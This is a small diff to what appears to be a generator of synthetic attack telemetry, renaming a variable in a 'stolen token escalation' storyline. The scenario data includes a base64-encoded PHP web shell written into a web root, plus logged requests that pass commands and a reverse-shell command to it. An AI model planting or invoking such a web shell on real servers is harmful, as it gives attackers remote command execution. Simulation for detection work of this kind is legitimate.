@@ -34,7 +34,7 @@ export const stolenTokenEscalation: StorylineDefinition = {
 function buildStolenTokenEscalation(random: Random): Storyline {
   const attackerIp = externalIp(random);
   const proxyIp = anonymisingProxyIp(random);
-  const SHELL = `/uploads/${random.pick(SHELL_NAMES)}`;
+  const shellPath = `/uploads/${random.pick(SHELL_NAMES)}`;
   const listenerPort = reverseShellPort(random);
   const account = nameFrom(random, SERVICE_ACCOUNT_LOOKALIKES);
   const roleName = `system:${account.replace(/-(probe|agent|reporter|helper)$/, '')}`;
@@ -49,7 +49,7 @@ function buildStolenTokenEscalation(random: Random): Storyline {
       type: 'http',
       client: attackerIp,
       method: 'GET',
-      path: `${SHELL}?c=${queryString(command)}`,
+      path: `${shellPath}?c=${queryString(command)}`,
       status: 200,
       bytes: 64,
       userAgent: USER_AGENT.pythonRequests,
@@ -73,7 +73,7 @@ function buildStolenTokenEscalation(random: Random): Storyline {
     indicators: {
       attackerIp,
       proxyIp,
-      webShell: SHELL,
+      webShell: shellPath,
       serviceAccount: `kube-system/${account}`,
       clusterRole: roleName,
       binding: bindingName,
@@ -151,10 +151,10 @@ function buildStolenTokenEscalation(random: Random): Storyline {
             pod: VICTIM,
             container: 'php-fpm',
             exe: '/bin/sh',
-            cmdline: `sh -c 'echo PD9waHAgZWNobyBzaGVsbF9leGVjKCRfR0VUWydjJ10pOyA/Pg== | base64 -d > /var/www/html${SHELL}'`,
+            cmdline: `sh -c 'echo PD9waHAgZWNobyBzaGVsbF9leGVjKCRfR0VUWydjJ10pOyA/Pg== | base64 -d > /var/www/html${shellPath}'`,
             parentExe: 'php-fpm: pool www',
             user: 'www-data',
-            files: [{ path: `/var/www/html${SHELL}`, operation: 'write' }],
+            files: [{ path: `/var/www/html${shellPath}`, operation: 'write' }],
           },
         ],
       },
@@ -188,7 +188,7 @@ function buildStolenTokenEscalation(random: Random): Storyline {
             type: 'http',
             client: attackerIp,
             method: 'GET',
-            path: `${SHELL}?c=${queryString(reverseShell)}`,
+            path: `${shellPath}?c=${queryString(reverseShell)}`,
             status: 200,
             bytes: 0,
             userAgent: USER_AGENT.pythonRequests,
